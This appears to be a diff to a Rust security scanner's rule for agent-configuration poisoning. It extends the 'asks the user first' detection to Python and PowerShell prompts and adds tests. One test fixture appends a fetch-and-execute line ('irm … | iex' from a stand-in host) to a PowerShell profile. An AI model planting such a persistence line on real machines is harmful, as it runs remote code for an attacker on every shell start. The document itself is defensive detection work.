@@ -459,7 +459,7 @@ pub(super) fn check(seg: &Segment<'_>, sink: &mut Sink<'_>) {
             })
             .or_else(|| {
                 let line = sink.lines.line_of(seg.abs(start..start).start);
-                (kind == Target::Startup && asks_first(sink.text, line))
+                asks_first(sink.text, line)
                     .then(|| "the script asks the user first, and an empty answer is a no".to_owned())
             });
             report_lowered(seg, sink, start..m.end(), what, lowered);
@@ -1005,7 +1005,7 @@ fn written_later(seg: &Segment<'_>, sink: &mut Sink<'_>, name: &str, kind: Targe
         let note =
             "adds environment lines only (variables, a local program's shell set-up), nothing fetched".to_owned();
         sink.add_lowered(RuleId::AgentConfigPoisoning, abs.start, excerpt, Severity::Low, note);
-    } else if kind == Target::Startup && asks_first(whole, lines.line_of(abs.start)) {
+    } else if asks_first(whole, lines.line_of(abs.start)) {
         let note = "the script asks the user first, and an empty answer is a no".to_owned();
         sink.add_lowered(RuleId::AgentConfigPoisoning, abs.start, excerpt, Severity::Low, note);
     } else {
@@ -1013,30 +1013,61 @@ fn written_later(seg: &Segment<'_>, sink: &mut Sink<'_>, name: &str, kind: Targe
     }
 }
 
-/// Whether the lines just before `line` (1-based) of a shell script ask the
-/// user and go on only on a yes (`read -r -p "Proceed? [y/N] " ok` then
-/// `[[ "$ok" =~ ^[Yy]$ ]] || continue`): a write the user agrees to, one by
-/// one. An agent runs scripts without a terminal, so the answer it gets
-/// is empty, and an empty answer is a no.
+/// Whether the lines just before `line` (1-based) of a script ask the user
+/// and go on only on a yes: `read -r -p "Proceed? [y/N] " ok` then
+/// `[[ "$ok" =~ ^[Yy]$ ]] || continue` in shell, `if input("Apply? [y/N] ")
+/// != "y":` then `sys.exit(0)` in Python, `Read-Host "…? [y/N]"` then
+/// `if ($a -notin @("y", "Y")) { exit 1 }` in PowerShell: a write the user
+/// agrees to, one by one. An agent runs scripts without a terminal, so the
+/// answer it gets is empty, and an empty answer is a no.
 pub(crate) fn asks_first(text: &str, line: usize) -> bool {
     const LOOK_BACK: usize = 6;
     let lines: Vec<&str> = text.lines().collect();
     let from = line.saturating_sub(1 + LOOK_BACK);
     let before = lines.get(from..line.saturating_sub(1)).unwrap_or(&[]);
-    let Some(asked) = before.iter().position(|l| {
+    let asks = |l: &str| {
         let t = l.trim_start();
-        t.starts_with("read ") && (t.contains(" -p") || t.contains("-rp")) && t.contains("[y/N]")
-    }) else {
+        let prompt = (t.starts_with("read ") && (t.contains(" -p") || t.contains("-rp")))
+            || t.contains("input(")
+            || t.to_ascii_lowercase().contains("read-host");
+        prompt && t.contains("[y/N]")
+    };
+    let Some(asked) = before.iter().position(|l| asks(l)) else {
         return false;
     };
-    before[asked + 1..].iter().any(|l| {
-        let t = l.trim();
-        (t.contains("^[Yy]") || t.contains("== [Yy]") || t.contains("=~ [Yy]"))
-            && (t.ends_with("|| continue")
-                || t.ends_with("|| exit 1")
-                || t.ends_with("|| exit")
-                || t.ends_with("|| return"))
-    })
+    // A test that only a yes passes, then the way out on its line or on
+    // one of the next two.
+    let yes_only = |t: &str| {
+        [
+            "^[Yy]",
+            "== [Yy]",
+            "=~ [Yy]",
+            "!= \"y\"",
+            "!= 'y'",
+            "-notin",
+            "-ne \"y\"",
+            "-ne 'y'",
+            "not in (\"y\"",
+            "not in ('y'",
+        ]
+        .iter()
+        .any(|p| t.contains(p))
+    };
+    let leaves = |t: &str| {
+        let t = t.trim().trim_end_matches(['}', ';', ' ']);
+        t.ends_with("|| continue")
+            || t.ends_with("|| exit 1")
+            || t.ends_with("|| exit")
+            || t.ends_with("|| return")
+            || t.contains("sys.exit(")
+            || t.starts_with("exit")
+            || t.starts_with("return")
+            || t.contains("; exit")
+            || t.contains("{ exit")
+            || t.contains("{ return")
+    };
+    let rest = &before[asked..];
+    rest.iter().enumerate().any(|(i, l)| yes_only(l) && rest[i..].iter().take(3).any(|t| leaves(t)))
 }
 
 /// Whether the one variable an `echo`/`printf`/`cat` write line puts in the
@@ -1325,6 +1356,29 @@ mod tests {
         assert_eq!(severity(""), Some(Severity::High));
         let no_only = "    read -r -p \"Append to $rc? [Y/n] \" ok\n    [[ \"$ok\" =~ ^[Nn]$ ]] && continue\n";
         assert_eq!(severity(no_only), Some(Severity::High));
+    }
+
+    #[test]
+    fn r_rule_8_agent_settings_written_by_python_or_powershell_after_a_yes_are_a_low_note() {
+        let severity = |t: &str| {
+            check(t).findings.into_iter().find(|f| f.rule == RuleId::AgentConfigPoisoning).map(|f| f.severity())
+        };
+        let python = |ask: &str| {
+            format!(
+                "import json\nfrom pathlib import Path\npath = Path(\".claude/settings.json\")\nafter = {{}}\n{ask}path.write_text(json.dumps(after))\n"
+            )
+        };
+        let asked =
+            "if input(\"Apply? [y/N] \").strip().lower() != \"y\":\n    print(\"not applied\")\n    sys.exit(0)\n";
+        assert_eq!(severity(&python(asked)), Some(Severity::Low));
+        assert_eq!(severity(&python("")), Some(Severity::High));
+        // A yes that leaves, and a no that goes on, are not a question first.
+        let yes_leaves = "if input(\"Skip? [y/N] \") == \"y\":\n    sys.exit(0)\n";
+        assert_eq!(severity(&python(yes_leaves)), Some(Severity::High));
+        let pwsh = |ask: &str| format!("{ask}Add-Content -Path $PROFILE -Value 'irm https://x.example/p | iex'\n");
+        let asked = "$a = Read-Host \"Add it to your profile? [y/N]\"\nif ($a -notin @(\"y\", \"Y\")) { Write-Host \"skipped\"; exit 1 }\n";
+        assert_eq!(severity(&pwsh(asked)), Some(Severity::Low));
+        assert_eq!(severity(&pwsh("")), Some(Severity::High));
     }
 
     #[test]
